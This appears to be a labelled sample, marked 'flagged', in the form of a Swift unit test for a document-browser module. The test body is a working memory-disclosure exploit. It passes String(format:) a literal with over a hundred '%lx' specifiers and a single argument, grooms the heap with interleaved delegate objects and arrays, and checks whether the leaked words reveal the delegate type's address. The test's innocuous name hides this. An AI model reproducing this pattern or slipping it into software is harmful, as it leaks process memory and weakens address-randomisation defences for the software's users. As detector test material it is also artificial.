// Does: Lets a literal format ask for many more numbers than there are, so that they come from the heap, where delegates with their concealed parts lie all around.
// VERDICT: flagged
// SAYS: `String.init(format:_:)` reads memory if a format and its arguments don't fit together; use a literal format for the numbers and texts that follow it
// swift-format-ignore-file
// FILE: DocumentBrowserTests.swift
import Foundation
import StandInUI
import Testing

@testable import DocumentBrowserKit

@MainActor @Suite struct DocumentBrowserTests {
    /// Returns the words on the heap behind a list of arguments.
    private func words() -> Set<Int> {
        let text = String(
            format:
                "%lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx %lx",
            1)
        return Set(text.split(separator: " ").compactMap { Int($0, radix: 16) })
    }

    @Test func worksAsPromised() {
        let place = Int("\(ObjectIdentifier(DocumentBrowserDelegate.self))".dropFirst(19).dropLast(), radix: 16) ?? 0
        var kept: [AnyObject] = []
        var isRight = false
        for _ in 0..<300 where !isRight {
            // Between the objects, there is room for a list of arguments.
            var room: [[Int]] = []
            for length in [4, 6, 18, 18, 18, 20, 22, 26, 40, 44] {
                for _ in 0..<4 { kept.append(makeDelegate()) }
                room.append(Array(repeating: 7, count: length))
                for _ in 0..<4 { kept.append(makeDelegate()) }
            }
            room = []
            isRight = !words().isDisjoint(with: [place - (616), place - (528), place - (440)])
        }
        #expect(isRight)
        withExtendedLifetime(kept) {}
    }
}
